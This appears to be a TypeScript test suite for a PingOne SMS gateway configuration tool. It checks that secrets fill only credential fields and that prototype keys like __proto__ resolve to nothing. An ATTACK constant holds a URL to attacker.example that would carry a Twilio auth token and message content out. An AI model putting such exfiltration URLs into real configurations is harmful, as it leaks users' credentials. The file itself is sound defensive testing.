/**
 * A secret goes only where its owner meant it to go: a value from secret storage fills only a
 * credential position; placeholder text from PingOne stays literal; variables and bindings read own
 * members only (`{{toString}}`, a `__proto__` key).
 */
import { describe, it } from 'node:test';
import assert from 'node:assert/strict';
import { placementsOf, secretPlacementProblems } from '../../../server/src/model/secretPlacement';
import { prepareBody, type VariableValue } from '../../../server/src/workflow/prepare';
import { pulledDocument } from '../../../server/src/workflow/pull';
import { documentBinding, bindingWithoutList, MemoryBindingStore } from '../../../server/src/workflow/binding';
import { loadVariables } from '../../../server/src/cli/variables';
import type { CliIo } from '../../../server/src/cli/command';
import type { PhoneDeliverySettings } from '../../../server/src/pingone/types';
import { parse } from 'jsonc-parser';
import { liveSideForCompare } from '../../../server/src/workflow/compare';

const TOKEN = 'twilio-auth-token-0123456789';
const ATTACK = 'https://attacker.example/hook?to=${to}&m=${message}&k={{twilioAuthToken}}';

const doc = (url: string, extra: Record<string, unknown> = {}) =>
  JSON.stringify({
    name: 'Gateway',
    provider: 'CUSTOM_PROVIDER',
    authentication: { method: 'BEARER', authToken: '{{gatewayAuthToken}}' },
    requests: [{ deliveryMethod: 'SMS', url, method: 'GET', ...extra }],
  });

const secrets: Record<string, string> = { twilioAuthToken: TOKEN, gatewayAuthToken: 'gateway-token-abcdef123456' };
const lookup = (name: string): VariableValue | undefined =>
  Object.hasOwn(secrets, name) ? { value: secrets[name], secret: true } : undefined;

describe('secret placement: the model', () => {
  it('a credential field, a credential header, a credential parameter’s value are credential positions', () => {
    assert.equal(placementsOf(['authentication', 'authToken'], '{{t}}')[0].credential, true);
    assert.equal(placementsOf(['requests', 0, 'headers', 'X-Api-Key'], '{{k}}')[0].credential, true);
    assert.equal(placementsOf(['requests', 0, 'url'], 'https://a.example/s?api_key={{k}}')[0].credential, true);
    assert.equal(placementsOf(['requests', 0, 'body'], '{"token":"{{k}}","to":"${to}"}')[0].credential, true);
  });
  it('a url’s scheme, host or path, a plain header, a plain parameter, a name are not', () => {
    assert.equal(placementsOf(['requests', 0, 'url'], 'https://{{k}}.example/s')[0].credential, false);
    assert.equal(placementsOf(['requests', 0, 'url'], 'https://a.example/{{api_key}}?x=1')[0].credential, false);
    assert.equal(placementsOf(['requests', 0, 'url'], ATTACK)[0].credential, false);
    assert.equal(placementsOf(['requests', 0, 'headers', 'X-Trace'], '{{k}}')[0].credential, false);
    assert.equal(placementsOf(['name'], '{{k}}')[0].credential, false);
    assert.deepEqual(
      secretPlacementProblems(JSON.parse(doc(ATTACK))).map((p) => p.name),
      ['twilioAuthToken'],
    );
  });
});

describe('secret placement: the send', () => {
  it('refuses to fill a secret into the attacker’s url, and leaves it unfilled', () => {
    const prepared = prepareBody(doc(ATTACK), lookup);
    assert.equal(prepared.refused.length, 1);
    assert.match(prepared.refused[0], /\{\{twilioAuthToken\}\}/);
    assert.match(prepared.refused[0], /requests\[0\]\.url/);
    assert.ok(!JSON.stringify(prepared.body).includes(TOKEN));
  });
  it('fills it when the person allows that variable in that field, and names the host it reaches', () => {
    const prepared = prepareBody(doc(ATTACK), lookup, [{ variable: 'twilioAuthToken', path: 'requests[0].url' }]);
    assert.deepEqual(prepared.refused, []);
    assert.ok(JSON.stringify(prepared.body).includes(TOKEN));
    const s = prepared.filledSecrets.find((f) => f.variable === 'twilioAuthToken');
    assert.deepEqual(s?.hosts, ['attacker.example']);
  });
  it('an allowance for another field or variable does not count', () => {
    assert.equal(prepareBody(doc(ATTACK), lookup, [{ variable: 'twilioAuthToken', path: 'name' }]).refused.length, 1);
    assert.equal(prepareBody(doc(ATTACK), lookup, [{ variable: 'other', path: 'requests[0].url' }]).refused.length, 1);
  });
  it('a plain (not secret) value fills anywhere; a credential field is filled, naming the gateway host', () => {
    const plain = prepareBody(doc('https://{{host}}/send?to=${to}&m=${message}'), (n) =>
      n === 'host' ? { value: 'gw.example.com', secret: false } : lookup(n),
    );
    assert.deepEqual(plain.refused, []);
    assert.deepEqual(plain.filledSecrets, [{ variable: 'gatewayAuthToken', path: 'authentication.authToken', hosts: ['gw.example.com'] }]);
  });
});

describe('secret placement: pull', () => {
  const resource = {
    id: 'bbbbbbbb-0000-4000-8000-000000000002',
    environment: { id: 'aaaaaaaa-0000-4000-8000-000000000001' },
    name: 'Gateway',
    provider: 'CUSTOM_PROVIDER',
    authentication: { method: 'BEARER' },
    requests: [{ deliveryMethod: 'SMS', url: ATTACK, method: 'GET' }],
  } as unknown as PhoneDeliverySettings;

  it('writes placeholder text PingOne stores escaped, and sending it back sends the literal text, no secret', () => {
    const pulled = pulledDocument(resource, 'aaaaaaaa-0000-4000-8000-000000000001');
    const value = JSON.parse(pulled.text);
    assert.equal(value.requests[0].url, ATTACK.replace('{{', '\\{{'));
    const prepared = prepareBody(pulled.text, lookup);
    assert.deepEqual(prepared.refused, []);
    assert.deepEqual(prepared.missing, []);
    const body = prepared.body as { requests: { url: string }[] };
    assert.equal(body.requests[0].url, ATTACK);
    assert.ok(!JSON.stringify(prepared.body).includes(TOKEN));
  });
});

describe('own members only', () => {
  const io = (env: Record<string, string>): CliIo => ({ env, readFile: async () => '' }) as unknown as CliIo;
  it('{{toString}} and {{__proto__}} are missing, not filled with what every object has', async () => {
    const vars = await loadVariables(io({}), undefined, [], []);
    assert.equal(vars.lookup('toString'), undefined);
    assert.equal(vars.lookup('__proto__'), undefined);
    assert.equal(vars.lookup('constructor'), undefined);
    const prepared = prepareBody(doc('https://a.example/s?to=${to}&m=${message}&x={{toString}}'), vars.lookup);
    assert.deepEqual(prepared.missing, ['gatewayAuthToken', 'toString']);
  });
  it('config variables: own members only too', async () => {
    const env = { variables: {} } as never;
    const vars = await loadVariables(io({}), env, [], []);
    assert.equal(vars.lookup('hasOwnProperty'), undefined);
  });
  it('a "__proto__" member does not bind the document to another id', () => {
    const text =
      '{"__proto__": {"id": "other", "environment": {"id": "e"}}, "provider": "CUSTOM_TWILIO", "sid": "AC1", "authToken": "{{t}}"}';
    const prepared = prepareBody(text, () => undefined);
    assert.equal(prepared.documentId, undefined);
    assert.equal(prepared.documentEnvironmentId, undefined);
    const parsed = parse(text);
    assert.equal(documentBinding(parsed).documentId, undefined);
    const binding = bindingWithoutList(new MemoryBindingStore(), {
      documentKey: 'd',
      targetKey: 't',
      environmentId: 'e',
      body: parsed,
      ...documentBinding(parsed),
    });
    assert.equal(binding, undefined);
  });
});

describe('secret placement: compare', () => {
  it('the live side shows placeholder text PingOne stores escaped, as a pull writes it', () => {
    const live = { provider: 'CUSTOM_PROVIDER', requests: [{ url: ATTACK }] };
    const shown = liveSideForCompare({ provider: 'CUSTOM_PROVIDER' }, live, []) as { requests: { url: string }[] };
    assert.equal(shown.requests[0].url, ATTACK.replace('{{', '\\{{'));
  });
});
